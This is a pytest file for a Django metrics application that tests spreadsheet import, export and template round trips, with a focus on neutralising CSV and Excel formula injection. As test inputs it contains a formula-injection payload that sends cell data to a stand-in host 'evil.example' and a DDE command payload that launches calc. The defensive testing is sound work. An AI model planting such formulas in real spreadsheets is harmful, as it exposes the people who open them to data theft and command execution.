# ruff: noqa: F811 (the fixtures shared from test_import are parameters here)
"""Spreadsheet import, the template (metrics/imports/template.py) and the round trip
with the row format: an exported file, or the filled-in template, imports as it is."""

import csv
import datetime
import io

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from django.utils import timezone

from metrics import rowformat
from metrics.imports import import_rows, read_upload, template_rows
from metrics.models import Reading
from metrics.services import reading_record
from reports import services

from ..factories import MetricFactory, ReadingFactory
from .test_import import _in_process, _template_url, csv_file, setup, xlsx_file  # noqa: F401

# --- Round trip with the row format, template --------------------------------------------


def _exported_rows():
    return [rowformat.reading_row(r) for r in rowformat.export_readings(
        Reading.objects.first().metric.plan
    )]


# What a spreadsheet would run as a formula, if an export wrote it as it is.
HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"Details")'


def _export(kind, rows):
    """`rows` written through the shared writers of the row format, as every export is."""
    if kind == "csv":
        return SimpleUploadedFile("readings.csv", rowformat.csv_bytes(rowformat.HEADER, rows))
    book = openpyxl.Workbook(write_only=True)
    sheet = book.create_sheet("Readings")
    sheet.append(rowformat.xlsx_row(sheet, [label for _, label in rowformat.COLUMNS]))
    for row in rows:
        sheet.append(rowformat.xlsx_row(sheet, [row[key] for key in rowformat.HEADER]))
    out = io.BytesIO()
    book.save(out)
    return SimpleUploadedFile("readings.xlsx", out.getvalue())


def assert_inert(kind, content):
    """No cell that a spreadsheet would run: in a CSV, text starting with =, +, -, @, tab or
    CR has OWASP's apostrophe (numbers, negative ones too, stay numbers); an XLSX holds
    no formula cell, its text cells are strings."""
    if kind == "csv":
        cells = [c for row in csv.reader(io.StringIO(content.decode("utf-8-sig"))) for c in row]
        assert not [c for c in cells if c[:1] in rowformat.FORMULA_START
                    and not rowformat.looks_like_number(c)]
        return cells
    book = openpyxl.load_workbook(io.BytesIO(content))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    return [c.value for c in cells]


@pytest.mark.parametrize(("value", "written"), [
    (HOSTILE, "'" + HOSTILE), ("+", "'+"), ("-cmd|' /C calc'!A0", "'-cmd|' /C calc'!A0"),
    ("@SUM(A1)", "'@SUM(A1)"), ("\tindented", "'\tindented"), ("\rx", "'\rx"),
    ("-3", "-3"), ("-2.5", "-2.5"), ("+5", "+5"), ("1e-3", "1e-3"), ("-Infinity", "'-Infinity"),
    ("plain", "plain"), ("", ""), ("'quoted'", "'quoted'"), (7, 7),
    ("'=typed with its apostrophe", "''=typed with its apostrophe"),
])
def test_csv_text_a_spreadsheet_would_run_gets_an_apostrophe_and_numbers_stay(value, written):
    assert rowformat.csv_safe(value) == written
    assert rowformat.cell_text(written) == value  # what the import reads back


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_an_exported_file_imports_back_as_it_is(setup, users, kind):
    trained, rate = setup["trained"], setup["rate"]
    reading_record(metric=trained, period="2023-24", value="6000", qualifier="more_than",
                   note="Line one\nline two, with “quotes”", source_text="More than 6,000",
                   approve=True, user=users["lead"])
    reading_record(metric=trained, period="2023-24", value="310", district=setup["north"],
                   student_group=setup["ell"], note=HOSTILE, source_text="@SUM(A1)",
                   approve=True, user=users["lead"])
    reading_record(metric=rate, period="2023-24 Q2", value="45.5", qualifier="plus",
                   note="-cmd|' /C calc'!A0", approve=True, user=users["lead"])
    reading_record(metric=rate, period="2024-03", value="0.0001", note="\ta tab first",
                   approve=True, user=users["lead"])
    fields = ("metric_id", "period", "district_id", "student_group_id", "value", "qualifier",
              "note", "source_text", "state", "approved_value", "approved_qualifier")
    before = sorted(Reading.objects.values_list(*fields))
    upload = _export(kind, _exported_rows())
    cells = assert_inert(kind, upload.read())
    assert ("'" + HOSTILE if kind == "csv" else HOSTILE) in cells
    upload.seek(0)

    again = import_rows(plan=setup["plan"], rows=read_upload(upload), user=users["lead"])
    assert (again.unchanged, again.new, again.changed, again.rejected) == (4, 0, 0, 0)

    Reading.history.all().delete()
    Reading.objects.all().delete()
    upload.seek(0)
    report = import_rows(plan=setup["plan"], rows=read_upload(upload), user=users["lead"])
    assert report.written and (report.new, report.approved) == (4, 4)
    assert sorted(Reading.objects.values_list(*fields)) == before
    assert Reading.history.filter(history_type="+", history_user=users["lead"]).count() == 4
    assert Reading.objects.get(note=HOSTILE).source_text == "@SUM(A1)"


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_the_reports_data_export_is_inert_and_imports_back_unchanged(setup, users, kind):
    reading_record(metric=setup["trained"], period="2023-24", value="6000", note=HOSTILE,
                   source_text="+1 on last year", approve=True, user=users["lead"])
    content = services.produce(setup["plan"], "2023-24", kind)
    assert_inert(kind, content)
    upload = SimpleUploadedFile(f"data.{kind}", content)
    report = import_rows(plan=setup["plan"], rows=read_upload(upload), user=users["lead"])
    assert report.rejected == 0 and report.unchanged == 1
    Reading.objects.all().delete()
    upload.seek(0)
    report = import_rows(plan=setup["plan"], rows=read_upload(upload), user=users["lead"])
    assert report.written and Reading.objects.get().note == HOSTILE


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_the_template_is_inert(client, setup, users, kind):
    setup["trained"].name = "=1+1 educators"
    setup["trained"].save()
    client.force_login(users["steward"])
    cells = assert_inert(kind, client.get(_template_url(setup, kind)).content)
    assert ("'=1+1 educators" if kind == "csv" else "=1+1 educators") in cells


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_template_lists_the_users_metrics_with_the_next_period(client, setup, users, kind):
    ReadingFactory(metric=setup["trained"], period="2023-24", value=1)
    client.force_login(users["steward"])
    response = client.get(_template_url(setup, kind))
    assert response.status_code == 200
    assert f'filename="plan-readings.{kind}"' in response["Content-Disposition"]
    content = response.content
    if kind == "csv":
        assert content.startswith(b"\xef\xbb\xbf")
        rows = list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"))))
    else:
        sheet = openpyxl.load_workbook(io.BytesIO(content), read_only=True).worksheets[0]
        values = list(sheet.iter_rows(values_only=True))
        rows = [dict(zip(values[0], [v or "" for v in row], strict=True)) for row in values[1:]]
    assert [
        (r["metric_code"], r["metric_name"], r["unit"], r["period"], r["value"]) for r in rows
    ] == [("trained", "Educators trained", "count", "2024-25", "")]
    # Filled in and uploaded, it imports.
    rows[0]["value"] = "42"
    out = io.StringIO()
    writer = csv.DictWriter(out, list(rows[0]))
    writer.writeheader()
    writer.writerows(rows)
    report = import_rows(plan=setup["plan"], user=users["steward"],
                                 rows=read_upload(csv_file(out.getvalue())))
    assert report.written and report.new == 1


def test_template_periods_follow_frequency_and_stay_inside_the_plan(setup, users):
    plan = setup["plan"]  # 2022-23 to 2024-25
    pillar = setup["trained"].pillar
    MetricFactory(plan=plan, pillar=pillar, code="monthly", frequency="monthly")
    quarterly = MetricFactory(plan=plan, pillar=pillar, code="quarterly", frequency="quarterly")

    def periods(today):
        rows = template_rows(plan, users["administrator"], today=today)
        assert all(r["district"] == "All districts (county-wide)" for r in rows)
        return {r["metric_code"]: r["period"] for r in rows}

    late = datetime.date(2030, 1, 1)
    assert periods(late) == {"monthly": "2025-06", "quarterly": "2024-25 Q4",
                             "trained": "2024-25", "rate": "2024-25", "other": "2024-25"}
    assert periods(datetime.date(2023, 9, 9))["monthly"] == "2023-09"
    assert periods(datetime.date(2001, 1, 1))["monthly"] == "2022-07"
    ReadingFactory(metric=quarterly, period="2023-24 Q4")
    assert periods(late)["quarterly"] == "2024-25 Q1"


def test_a_metric_with_no_period_due_is_left_out_of_the_template(setup, users):
    # metrics.periods.next_period is None after the plan's last period and in a closed
    # plan: the entry form accepts no new period then, and the template proposes none.
    ReadingFactory(metric=setup["trained"], period="2024-25")  # the plan's last year
    ReadingFactory(metric=setup["rate"], period="2023-24")
    rows = template_rows(setup["plan"], users["administrator"], today=datetime.date(2030, 1, 1))
    assert [(r["metric_code"], r["period"]) for r in rows] == [
        ("rate", "2024-25"), ("other", "2024-25")
    ]
    for row in rows:
        setup[row["metric_code"]].validate_period(row["period"])  # as the entry form does
    setup["plan"].closed_at = timezone.now()
    setup["plan"].save()
    assert template_rows(setup["plan"], users["administrator"]) == []


def test_lacoe_template_imports_for_a_lead(setup, lacoe_plan, users):
    pillar = lacoe_plan.pillars.first()
    pillar.leads.add(users["lead"])
    rows = template_rows(lacoe_plan, users["lead"])
    assert rows and all(r["period"] for r in rows)
    for index, row in enumerate(rows):
        row["line"], row["value"] = index + 2, "1"
    report = import_rows(plan=lacoe_plan, rows=rows, user=users["lead"], dry_run=True)
    assert report.rejected == 0 and report.new + report.changed + report.unchanged == len(rows)


def test_the_xlsx_template_and_the_upload_page_offer_only_the_plans_own_dimensions(
    client, setup, users
):
    from metrics.models import District, StudentGroup

    elsewhere = District.objects.create(code="synthetic-district-001",
                                        name="Synthetic District 001")
    elsewhere.plans.add(MetricFactory().plan)  # another plan's
    client.force_login(users["steward"])
    response = client.get(_template_url(setup, "xlsx"))
    book = openpyxl.load_workbook(io.BytesIO(response.content), read_only=True)
    listed = [tuple(row) for row in book["Districts and groups"].iter_rows(values_only=True)]
    assert listed == [
        ("Column", "Code", "Name"),
        ("district", District.objects.total().code, District.objects.total().name),
        ("district", "north", "North District"),
        ("student_group", StudentGroup.objects.total().code, StudentGroup.objects.total().name),
        ("student_group", "ell", "English learners"),
    ]
    html = client.get(reverse("metrics:import_upload", args=[setup["plan"].slug])).content
    assert b"North District" in html and b"English learners" in html
    assert b"Synthetic District 001" not in html
